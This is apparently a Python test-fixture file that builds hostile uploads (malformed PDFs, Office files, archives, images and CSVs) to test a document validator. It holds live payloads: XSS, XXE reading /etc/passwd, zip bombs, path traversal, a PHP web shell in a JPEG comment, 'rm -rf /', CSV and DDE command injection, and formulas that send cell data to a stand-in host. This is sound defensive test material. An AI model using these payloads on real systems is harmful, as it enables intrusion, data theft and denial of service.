"""Files that must not come in, each made here and kept nowhere: what it is called, what it holds, why it is refused."""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from documents.judges.flaws import Flaw
from tests.documents.good_files import (
    TABLE,
    TEXT,
    Parts,
    content_types,
    excel,
    jpeg,
    open_parts,
    open_text,
    parts_of,
    pdf,
    picture,
    png,
    relationship,
    slides_parts,
    word,
    word_parts,
    zipped,
)

MEGABYTE = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2040)
EICAR_LIKE_PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(200)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_THAT_LISTENS = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PAGE = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><x>&j;</x>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@dataclass(frozen=True)
class Hostile:
    """`why` is the flaw that is told, or a piece of the sentence where the name alone decides."""

    name: str
    make: Callable[[], bytes]
    why: Flaw | str


# PDF


def raw_pdf(*objects: str | bytes, before: bytes = b"", after: bytes = b"") -> bytes:
    """A PDF written by hand: the first object is the catalog."""
    made, places = bytearray(b"%PDF-1.7\n" + before), []
    for number, content in enumerate(objects, start=1):
        places.append(len(made))
        made += f"{number} 0 obj\n".encode() + (content if isinstance(content, bytes) else content.encode())
        made += b"\nendobj\n"
    table = len(made)
    made += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    made += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    made += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(made) + after


PAGES = ("<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>")


def pdf_with(catalog: str = "", *more: str | bytes, page: str = "") -> bytes:
    """One page, and these entries in the catalog or the page."""
    return raw_pdf(f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", PAGES[0], PAGES[1][:-2] + f"{page} >>", *more)


def stream(content: bytes, entries: str = "") -> bytes:
    """A packed stream."""
    packed = zlib.compress(content)
    return f"<< /Length {len(packed)} /Filter /FlateDecode {entries} >>\nstream\n".encode() + packed + b"\nendstream"


def pdf_with_hidden_script() -> bytes:
    """The action stands in a packed stream of objects alone, and its names are spelt in numbers."""
    objects = b"4 0 << /S /J#61vaScript /#4aS (app.alert(1)) >>"
    return pdf_with("", stream(objects, f"/Type /ObjStm /N 1 /First 4 /Extra {len(objects)}"))


def pdf_with_script_in_a_picture() -> bytes:
    """What says that it is a picture begins, for a reader that looks for itself, like a stream of objects."""
    return pdf_with("", stream(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>", "/Subtype /Image /Width 1 /Height 1"))


def pdf_with_script_in_two_wrappings() -> bytes:
    """A table that is itself packed points into a stream of objects that is packed twice."""
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def twice_packed_objects() -> bytes:
    """A PDF whose catalog opens with an action that lies in a stream of objects of two filters, found by the table."""
    inner = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(inner).hex().encode() + b">"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        PAGES[0].encode(),
        PAGES[1].encode(),
        f"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length {len(packed)} >>\n".encode()
        + b"stream\n"
        + packed
        + b"\nendstream",
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(made))
        made += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    table = len(made)
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (2, 4, 0), (1, table, 0)]
    entries = b"".join(struct.pack(">BIH", *row) for row in rows)
    made += b"6 0 obj\n" + stream(entries, "/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return bytes(made) + f"startxref\n{table}\n%%EOF\n".encode()


def pdf_with_password(password: str = "", owner: str = "owner") -> bytes:
    """Protected, as many offices do it."""
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    writer.encrypt(password, owner, algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def pdf_with_attachment() -> bytes:
    """A program inside."""
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    writer.add_attachment("setup.exe", EICAR_LIKE_PROGRAM)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def pdf_with_a_film() -> bytes:
    """An annotation that plays."""
    writer = PdfWriter()
    page = writer.add_blank_page(99, 99)
    film = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Screen"),
            NameObject("/Rect"): ArrayObject(NumberObject(each) for each in (0, 0, 9, 9)),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(film)])
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def pdf_with_many_bombs() -> bytes:
    """Streams that begin like streams of objects and unpack to a thousand times their size."""
    return pdf_with("", *(stream(b"1 0 " + b"0" * 30 * MEGABYTE) for _number in range(5)))


def pdf_that_goes_round() -> bytes:
    """Pages that are their own children."""
    return raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def deep_pdf() -> bytes:
    """A hundred thousand brackets."""
    return pdf_with("/OpenAction 4 0 R", "[" * 100_000 + "]" * 100_000)


# Archives


def with_part(make: Callable[[], Parts], name: str, content: bytes | str = "x") -> bytes:
    """An office file with one part more."""
    return zipped({**make(), name: content})


def bomb(size: int = 300 * MEGABYTE) -> bytes:
    """A document whose text is nothing but blanks."""
    made = io.BytesIO(word())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/more.xml", "w") as part:
        for _number in range(size // MEGABYTE):
            part.write(b" " * MEGABYTE)
    return made.getvalue()


def lying_bomb() -> bytes:
    """The same, and its list says that it is small."""
    made = bytearray(bomb(50 * MEGABYTE))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(made)


def overlapping_bomb() -> bytes:
    """Two parts of the list are one and the same place in the file."""
    made = bytearray(with_part(word_parts, "word/copy00.png", png()))
    entries = [at for at in range(len(made)) if made[at : at + 4] == b"PK\x01\x02"]
    first, last = entries[0], entries[-1]
    made[last + 42 : last + 46] = made[first + 42 : first + 46]
    return bytes(made)


def many_parts() -> bytes:
    """More parts than any document has."""
    return zipped({**word_parts(), **{f"word/media/{number}.txt": "" for number in range(5_100)}})


def bomb_within() -> bytes:
    """The bomb lies in the table behind a chart."""
    return zipped({**slides_parts(), "ppt/embeddings/Microsoft_Excel_Sheet2.xlsx": bomb()})


def doubled() -> bytes:
    """Two parts of one name: one for whoever checks, one for whoever opens."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in [*word_parts().items(), ("Word/Document.xml", "<other/>")]:
            archive.writestr(name, content)
    return made.getvalue()


def with_password() -> bytes:
    """A part that is marked as encrypted, in both places."""
    made = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        made[at + offset] |= 1
    return bytes(made)


def with_comment() -> bytes:
    """A page of the web in the comment of the archive."""
    made = io.BytesIO(word())
    with zipfile.ZipFile(made, "a") as archive:
        archive.comment = PAGE
    return made.getvalue()


def with_a_gap() -> bytes:
    """Bytes between the last part and the list, which no program reads."""
    made = word()
    at = struct.unpack("<I", made[-6:-2])[0]
    return made[:at] + EICAR_LIKE_PROGRAM + made[at:-6] + struct.pack("<I", at + len(EICAR_LIKE_PROGRAM)) + made[-2:]


def ends_with(at: int, value: int, layout: str = "<H") -> bytes:
    """A document whose last record says something else at this place."""
    made = bytearray(word())
    struct.pack_into(layout, made, len(made) - 22 + at, value)
    return bytes(made)


def unlisted(number: int) -> bytes:
    """A document with a program as one of its parts, which the list does not tell of."""
    parts = list(word_parts().items())
    made = bytearray(zipped(dict([*parts[:number], ("hidden", EICAR_LIKE_PROGRAM), *parts[number:]])))
    size, starts_at = struct.unpack("<II", made[-10:-2])
    name = made.find(b"hidden", starts_at)
    del made[name - 46 : name + len("hidden")]
    taken = 46 + len("hidden")
    made[-14:-2] = struct.pack("<HHII", len(parts), len(parts), size - taken, starts_at)
    return bytes(made)


def listing_nothing() -> bytes:
    """An archive whose list is empty."""
    made = word()
    return made[:-22] + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0, 0, 0, len(made) - 22, 0)


def before_the_end() -> bytes:
    """Bytes between the list and the last record."""
    made = word()
    return made[:-22] + EICAR_LIKE_PROGRAM + made[-22:]


def many_dense_parts() -> bytes:
    """Each part is what a part may be; together they are more than a file may be."""
    dense = (b"%08d" % 7 + bytes(800)) * 110_000
    return zipped({**word_parts(), **{f"word/media/{number}.emf": dense for number in range(3)}})


def with_a_link() -> bytes:
    """A part that is a symbolic link."""
    made = io.BytesIO(word())
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def zero_in_name() -> bytes:
    """For one program the name ends at the zero byte, for another it goes on."""
    return with_part(word_parts, "word/image1.png~.exe.png").replace(b"png~.exe", b"png\0.exe")


def odd_compression() -> bytes:
    """A method that no office program uses."""
    made = io.BytesIO(word())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/more.xml", "<x/>")
    return made.getvalue()


def truncated(content: bytes) -> bytes:
    """The line broke off."""
    return content[: len(content) * 2 // 3]


def word_of(content_type: str) -> Callable[[], bytes]:
    """A document whose main part is of this type."""
    return lambda: zipped({**word_parts(), "[Content_Types].xml": content_types(content_type, "word/document.xml")})


def xlsx_with(name: str, content: bytes | str) -> Callable[[], bytes]:
    """A workbook with one part more."""
    return lambda: zipped({**parts_of(excel()), name: content})


def odt_with(body: str, **options: str) -> Callable[[], bytes]:
    """An OpenDocument text with something in its body."""
    return lambda: zipped(open_parts("text", body, **options))


def word_with(body: str = "", *links: str) -> Callable[[], bytes]:
    """A Word document with something in its body, or a relationship more."""
    return lambda: zipped(word_parts(body, *links))


FIELD_IN_PIECES = "".join(
    f"<w:p><w:r><w:instrText>{piece}</w:instrText></w:r></w:p>" for piece in ("DD", "EAU", "TO c:")
)
SHEET_THAT_CALLS = '<worksheet><c><f>WEBSERVICE("http://x.example/"&amp;A1)</f></c></worksheet>'

# Pictures


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says it is so large, whatever is in it."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def moving_png() -> bytes:
    """Two pictures that take turns."""
    made = io.BytesIO()
    Image.new("RGB", (9, 9)).save(made, "PNG", save_all=True, append_images=[Image.new("RGB", (9, 9), "red")])
    return made.getvalue()


def png_with_text(text: bytes, *, right: bool = True) -> bytes:
    """A picture with a text at its end; its sum may be wrong."""
    made, added = picture("PNG", (200, 150)), chunk(b"tEXt", b"Comment\0" + text)
    added = added if right else added[:-4] + bytes(4)
    return made[:-12] + added + made[-12:]


def png_with_text_bomb() -> bytes:
    """A text beside the picture that unpacks to a hundred megabytes."""
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b" " * 100 * MEGABYTE))
    made = png()
    return made[:33] + text + made[33:]


def tar() -> bytes:
    """An archive of another kind."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("x"))
    return made.getvalue()


_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"

HOSTILE = [
    # Names and sizes
    Hostile("nothing.pdf", bytes, "empty"),
    Hostile("huge.pdf", lambda: b"%PDF-1.7" + bytes(20 * MEGABYTE) + b"%%EOF", "larger than 20 MB"),
    Hostile("no type", pdf, "does not say"),
    Hostile("program.exe", lambda: EICAR_LIKE_PROGRAM, "type .exe"),
    Hostile("minutes.pdf.exe", pdf, "type .exe"),
    Hostile("drawing.svg", lambda: SVG, "Save the picture as PNG or JPEG"),
    Hostile("page.html", lambda: PAGE, "Print it to PDF"),
    Hostile("macros.docm", word, "Save it as .docx or PDF"),
    Hostile("old.doc", lambda: OLE, "Save it as .docx or PDF"),
    Hostile("all.zip", word, "Unpack it"),
    Hostile("all.tar.gz", tar, "Unpack it"),
    # Not what the name says
    Hostile("program.pdf", lambda: EICAR_LIKE_PROGRAM, Flaw.OTHER_TYPE),
    Hostile("picture.pdf", png, Flaw.OTHER_TYPE),
    Hostile("minutes.png", pdf, Flaw.OTHER_TYPE),
    Hostile("table.docx", excel, Flaw.OTHER_TYPE),
    Hostile("text.xlsx", open_text, Flaw.OTHER_TYPE),
    Hostile("drawing.png", lambda: SVG, Flaw.OTHER_TYPE),
    Hostile("drawing.txt", lambda: SVG, Flaw.MARKUP),
    Hostile("archive.txt", word, Flaw.OTHER_TYPE),
    Hostile("old.docx", lambda: OLE, Flaw.OLD_OFFICE),
    Hostile("sheet.odt", lambda: zipped(open_parts("spreadsheet")), Flaw.OTHER_TYPE),
    Hostile("a template.docx", word_of(_TEMPLATE), Flaw.OTHER_TYPE),
    # PDF
    Hostile("half.pdf", lambda: truncated(pdf()), Flaw.DAMAGED),
    Hostile("script.pdf", lambda: pdf_with("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), Flaw.SCRIPT),
    Hostile("spelt.pdf", lambda: pdf_with("/OpenAction << /S /J#61v#61Script /J#53 (x) >>"), Flaw.SCRIPT),
    Hostile("names.pdf", lambda: pdf_with("/Names << /J#61vaScript << /Names [] >> >>"), Flaw.SCRIPT),
    Hostile("packed.pdf", pdf_with_hidden_script, Flaw.SCRIPT),
    Hostile("not a picture.pdf", pdf_with_script_in_a_picture, Flaw.SCRIPT),
    Hostile("by pypdf.pdf", pdf_with_script_in_two_wrappings, Flaw.SCRIPT),
    Hostile("packed twice.pdf", twice_packed_objects, Flaw.SCRIPT),
    Hostile("launch.pdf", lambda: pdf_with("", page="/AA << /O << /S /Launch /F (cmd.exe) >> >>"), Flaw.DEEDS),
    Hostile("sends.pdf", lambda: pdf_with("/OpenAction << /S /SubmitForm /F (http://x.example) >>"), Flaw.DEEDS),
    Hostile("opens.pdf", lambda: pdf_with("/OpenAction << /S /URI /URI (http://x.example) >>"), Flaw.DEEDS),
    Hostile("fetches.pdf", lambda: pdf_with("/OpenAction << /S /GoToR /F (\\\\\\\\x\\\\y) /D [0 /Fit] >>"), Flaw.DEEDS),
    Hostile("attached.pdf", pdf_with_attachment, Flaw.ATTACHMENTS),
    Hostile("xfa.pdf", lambda: pdf_with("/AcroForm << /XFA [(x) 2 0 R] >>"), Flaw.FORMS),
    Hostile("film.pdf", pdf_with_a_film, Flaw.MEDIA),
    Hostile("by reference.pdf", lambda: pdf_with("", "<< /Subtype 5 0 R >>", "/Screen"), Flaw.MEDIA),
    Hostile("sound.pdf", lambda: pdf_with("", "<< /S /Sound /Sound 5 0 R >>"), Flaw.MEDIA),
    Hostile("old film.pdf", lambda: pdf_with("", "<< /Subtype /Movie >>"), Flaw.MEDIA),
    Hostile("rendition.pdf", lambda: pdf_with("", "<< /S /Rendition /R 5 0 R >>"), Flaw.MEDIA),
    Hostile("model.pdf", lambda: pdf_with("", "<< /Subtype /3D /3DD 5 0 R >>"), Flaw.MEDIA),
    Hostile("imports.pdf", lambda: pdf_with("", "<< /S /ImportData /F (x.fdf) >>"), Flaw.DEEDS),
    Hostile("goes out.pdf", lambda: pdf_with("", "<< /S /GoToE /F (x.pdf) >>"), Flaw.DEEDS),
    Hostile("script alone.pdf", lambda: pdf_with("", "<< /S /X /JS (app.alert(1)) >>"), Flaw.SCRIPT),
    Hostile("file alone.pdf", lambda: pdf_with("", "<< /EF << /F 5 0 R >> >>"), Flaw.ATTACHMENTS),
    Hostile("file on page.pdf", lambda: pdf_with("", "<< /Subtype /FileAttachment >>"), Flaw.ATTACHMENTS),
    Hostile("on turning.pdf", lambda: pdf_with("", "<< /O 5 0 R >>", "<< /S /URI >>", page="/AA 4 0 R"), Flaw.DEEDS),
    Hostile("rich.pdf", lambda: pdf_with("", "<< /Type /Annot /Subtype /RichMedia >>"), Flaw.MEDIA),
    Hostile("password.pdf", lambda: pdf_with_password("secret"), Flaw.PASSWORD),
    Hostile("protected.pdf", pdf_with_password, Flaw.PASSWORD),
    Hostile("bombs.pdf", pdf_with_many_bombs, Flaw.TOO_MUCH),
    Hostile("round.pdf", pdf_that_goes_round, Flaw.DAMAGED),
    Hostile("deep.pdf", deep_pdf, Flaw.DAMAGED),
    Hostile("no pages.pdf", lambda: raw_pdf("<< /Type /Catalog >>"), Flaw.DAMAGED),
    Hostile("words.pdf", lambda: b"%PDF-1.7\nnothing else\n%%EOF\n", Flaw.DAMAGED),
    # Two things in one
    Hostile("pdf and zip.pdf", lambda: pdf() + word(), Flaw.SURROUNDED),
    Hostile("page before.pdf", lambda: PAGE + pdf(), Flaw.SURROUNDED),
    Hostile("page within.pdf", lambda: raw_pdf("<< >>", before=b"% " + PAGE + b"\n"), Flaw.SURROUNDED),
    Hostile("page behind.pdf", lambda: pdf() + PAGE, Flaw.SURROUNDED),
    Hostile("program behind.pdf", lambda: pdf() + EICAR_LIKE_PROGRAM, Flaw.SURROUNDED),
    Hostile("jpeg and zip.jpg", lambda: jpeg() + word(), Flaw.SURROUNDED),
    Hostile("png and zip.png", lambda: png() + word(), Flaw.SURROUNDED),
    Hostile("png and page.png", lambda: png() + PAGE, Flaw.SURROUNDED),
    Hostile("jpeg and page.jpg", lambda: jpeg() + PAGE, Flaw.SURROUNDED),
    Hostile("page in comment.jpg", lambda: picture("JPEG", comment=PAGE), Flaw.SURROUNDED),
    Hostile("php in comment.jpg", lambda: picture("JPEG", comment=b"<?php system($_GET[0]); ?>"), Flaw.SURROUNDED),
    Hostile("program and zip.docx", lambda: EICAR_LIKE_PROGRAM + word(), Flaw.SURROUNDED),
    Hostile("zip and more.docx", lambda: word() + b"more", Flaw.SURROUNDED),
    Hostile("page in comment.docx", with_comment, Flaw.SURROUNDED),
    Hostile("gap.docx", with_a_gap, Flaw.SURROUNDED),
    Hostile("text and zip.txt", lambda: TEXT.encode() + word(), Flaw.SURROUNDED),
    Hostile("word and page.docx", lambda: zipped({"a.txt": PAGE, **word_parts()}, stored=("a.txt",)), Flaw.SURROUNDED),
    Hostile("another disk.docx", lambda: ends_with(4, 1), Flaw.SURROUNDED),
    Hostile("first disk.docx", lambda: ends_with(6, 1), Flaw.SURROUNDED),
    Hostile("two counts.docx", lambda: ends_with(8, 3), Flaw.SURROUNDED),
    Hostile("missing comment.docx", lambda: ends_with(20, 9), Flaw.SURROUNDED),
    Hostile("list elsewhere.docx", lambda: ends_with(16, 9, "<I"), Flaw.SURROUNDED),
    Hostile("before the end.docx", before_the_end, Flaw.SURROUNDED),
    Hostile("unlisted first.docx", lambda: unlisted(0), Flaw.SURROUNDED),
    Hostile("unlisted later.docx", lambda: unlisted(3), Flaw.SURROUNDED),
    Hostile("listing nothing.docx", listing_nothing, Flaw.SURROUNDED),
    Hostile("page in text.png", lambda: png_with_text(PAGE), Flaw.SURROUNDED),
    Hostile("png and more.png", lambda: png() + b"more", Flaw.SURROUNDED),
    Hostile("jpeg and more.jpg", lambda: jpeg() + b"more", Flaw.SURROUNDED),
    Hostile("many in one.jpg", lambda: jpeg() * 12, Flaw.SURROUNDED),
    # Bombs
    Hostile("bomb.docx", bomb, Flaw.TOO_MUCH),
    Hostile("small bomb.docx", lambda: bomb(20 * MEGABYTE), Flaw.TOO_MUCH),
    Hostile("dense parts.docx", many_dense_parts, Flaw.TOO_MUCH),
    Hostile("lying bomb.docx", lying_bomb, Flaw.DAMAGED),
    Hostile("overlapping.docx", overlapping_bomb, Flaw.SURROUNDED),
    Hostile("many parts.docx", many_parts, Flaw.TOO_MUCH),
    Hostile("bomb within.pptx", bomb_within, Flaw.TOO_MUCH),
    Hostile("laughs.docx", lambda: with_part(word_parts, "word/styles.xml", ENTITIES), Flaw.ENTITIES),
    Hostile("laughs in 16.docx", lambda: with_part(word_parts, "word/x.xml", ENTITIES.encode("utf-16")), Flaw.ENTITIES),
    Hostile("outside.xlsx", xlsx_with("xl/custom.xml", OUTSIDE), Flaw.ENTITIES),
    Hostile("outside.odt", lambda: with_part(open_parts, "settings.xml", OUTSIDE), Flaw.ENTITIES),
    # Archives that lie
    Hostile("climbs.docx", lambda: with_part(word_parts, "../../etc/cron.d/x"), Flaw.PATHS),
    Hostile("rooted.docx", lambda: with_part(word_parts, "/etc/cron.d/x"), Flaw.PATHS),
    Hostile("backwards.docx", lambda: with_part(word_parts, "word\\..\\..\\x"), Flaw.PATHS),
    Hostile("on the spot.docx", lambda: with_part(word_parts, "word/./x"), Flaw.PATHS),
    Hostile("cut name.docx", zero_in_name, Flaw.PATHS),
    Hostile("drive.docx", lambda: with_part(word_parts, "C:/x"), Flaw.PATHS),
    Hostile("doubled.docx", doubled, Flaw.PATHS),
    Hostile("link.docx", with_a_link, Flaw.PATHS),
    Hostile("password.docx", with_password, Flaw.PASSWORD),
    Hostile("odd.docx", odd_compression, Flaw.DAMAGED),
    Hostile("half.docx", lambda: truncated(word()), Flaw.DAMAGED),
    Hostile("broken.docx", lambda: with_part(word_parts, "word/styles.xml", "<a><b></a>"), Flaw.DAMAGED),
    # Office files that act
    Hostile("macros.docx", lambda: with_part(word_parts, "word/vbaProject.bin", OLE), Flaw.MACROS),
    Hostile("renamed.docx", word_of(_MACRO), Flaw.MACROS),
    Hostile("old macros.xlsx", xlsx_with("xl/macrosheets/sheet1.xml", "<x/>"), Flaw.MACROS),
    Hostile("object.docx", lambda: with_part(word_parts, "word/embeddings/oleObject1.bin", OLE), Flaw.EMBEDDED),
    Hostile("control.docx", lambda: with_part(word_parts, "word/activeX/activeX1.xml", "<x/>"), Flaw.EMBEDDED),
    Hostile("disguised.docx", lambda: with_part(word_parts, "word/media/image2.png", OLE), Flaw.EMBEDDED),
    Hostile("program.docx", lambda: with_part(word_parts, "word/media/x.bin", EICAR_LIKE_PROGRAM), Flaw.EMBEDDED),
    Hostile("script.docx", lambda: with_part(word_parts, "word/run.js", "x"), Flaw.EMBEDDED),
    Hostile("page.docx", word_with("", relationship("aFChunk", "chunk.mht")), Flaw.EMBEDDED),
    Hostile("drawing.docx", lambda: with_part(word_parts, "word/media/x.svg", SVG), Flaw.EMBEDDED),
    Hostile("listens.docx", lambda: with_part(word_parts, "word/media/x.svg", SVG_THAT_LISTENS), Flaw.EMBEDDED),
    Hostile("archive.docx", lambda: with_part(word_parts, "word/media/x.bin", word()), Flaw.ARCHIVE),
    Hostile(
        "twice.pptx",
        lambda: with_part(
            slides_parts, "ppt/embeddings/a.docx", with_part(word_parts, "word/embeddings/b.docx", word())
        ),
        Flaw.ARCHIVE,
    ),
    Hostile(
        "macros within.pptx",
        lambda: with_part(slides_parts, "ppt/embeddings/a.docx", with_part(word_parts, "word/vbaProject.bin", OLE)),
        Flaw.MACROS,
    ),
    Hostile(
        "template.docx",
        word_with("", relationship("attachedTemplate", "http://x.example/t.dotm", outside=True)),
        Flaw.ELSEWHERE,
    ),
    Hostile(
        "picture.docx", word_with("", relationship("image", "http://x.example/x.png", outside=True)), Flaw.ELSEWHERE
    ),
    Hostile("beside.docx", word_with("", relationship("image", "x.png", outside=True)), Flaw.ELSEWHERE),
    Hostile("scheme.docx", word_with("", relationship("image", "http://x.example/x.png")), Flaw.ELSEWHERE),
    Hostile("share.docx", word_with("", relationship("image", "\\\\x.example\\y")), Flaw.ELSEWHERE),
    Hostile("javascript.docx", word_with("", relationship("hyperlink", "javascript:x", outside=True)), Flaw.ELSEWHERE),
    Hostile("command.docx", word_with(FIELD_IN_PIECES), Flaw.ELSEWHERE),
    Hostile("command.xlsx", xlsx_with("xl/externalLinks/externalLink1.xml", "<ddeLink/>"), Flaw.ELSEWHERE),
    Hostile("calls.xlsx", xlsx_with("xl/worksheets/sheet9.xml", SHEET_THAT_CALLS), Flaw.ELSEWHERE),
    Hostile("data.xlsx", xlsx_with("xl/connections.xml", "<x/>"), Flaw.ELSEWHERE),
    Hostile("macros.odt", lambda: with_part(open_parts, "Basic/Standard/Module1.xml", "<x/>"), Flaw.MACROS),
    Hostile(
        "listens.odt", odt_with('<script:event-listener script:language="ooo:script" xlink:href="x"/>'), Flaw.MACROS
    ),
    Hostile("runs.odt", odt_with('<text:a xlink:href="vnd.sun.star.script:x"/>'), Flaw.MACROS),
    Hostile("object.odt", odt_with('<draw:object-ole xlink:href="./Object 1"/>'), Flaw.EMBEDDED),
    Hostile("picture.odt", odt_with('<draw:image xlink:href="http://x.example/x.png"/>'), Flaw.ELSEWHERE),
    Hostile("beside.odt", odt_with('<text:section-source xlink:href="../secret.odt"/>'), Flaw.ELSEWHERE),
    Hostile("command.ods", lambda: zipped(open_parts("spreadsheet", "<office:dde-source/>")), Flaw.ELSEWHERE),
    Hostile("password.odt", odt_with("", manifest="<manifest:encryption-data/>"), Flaw.PASSWORD),
    # Pictures
    Hostile("large.png", lambda: png_of(20_000, 20_000), Flaw.PIXELS),
    Hostile("larger.png", lambda: png_of(2**31 - 1, 2**31 - 1), Flaw.PIXELS),
    Hostile("empty.png", lambda: png_of(100, 100), Flaw.DAMAGED),
    Hostile("half.png", lambda: truncated(png()), Flaw.DAMAGED),
    Hostile("half.jpg", lambda: truncated(picture("JPEG", (300, 200))), Flaw.DAMAGED),
    Hostile("wrong sum.png", lambda: png()[:40] + b"\0\0" + png()[42:], Flaw.DAMAGED),
    Hostile("wrong sum of text.png", lambda: png_with_text(b"Board", right=False), Flaw.DAMAGED),
    Hostile("moves.png", moving_png, Flaw.ANIMATED),
    Hostile("text bomb.png", png_with_text_bomb, Flaw.DAMAGED),
    Hostile("header.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(100), Flaw.DAMAGED),
    # Text
    Hostile("program.txt", lambda: EICAR_LIKE_PROGRAM, Flaw.BINARY),
    Hostile("nothing.csv", lambda: b"a,b\n\0", Flaw.BINARY),
    Hostile("escapes.txt", lambda: b"Minutes \x1b]0;x\x07", Flaw.BINARY),
    Hostile("wide.txt", lambda: TEXT.encode("utf-16"), Flaw.ENCODING),
    Hostile("undefined.txt", lambda: b"caf\x81\xe9", Flaw.ENCODING),
    Hostile("page.txt", lambda: b"\n  " + PAGE, Flaw.MARKUP),
    Hostile("page.csv", lambda: b"Year,Members\n2004,<script>alert(1)</script>\n", Flaw.MARKUP),
    Hostile("rich.txt", lambda: b"{\\rtf1\\ansi{\\object}}", Flaw.MARKUP),
    Hostile("shell.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Flaw.MARKUP),
    Hostile("calls.csv", lambda: TABLE.encode() + b"2007,=cmd|' /C calc'!A0,\n", Flaw.FORMULAS),
    Hostile("links.csv", lambda: TABLE.encode() + b'2007,"=HYPERLINK(""http://x.example"")",\n', Flaw.FORMULAS),
    Hostile("adds.csv", lambda: TABLE.encode() + b"2007,+cmd|'x'!A0,\n", Flaw.FORMULAS),
]
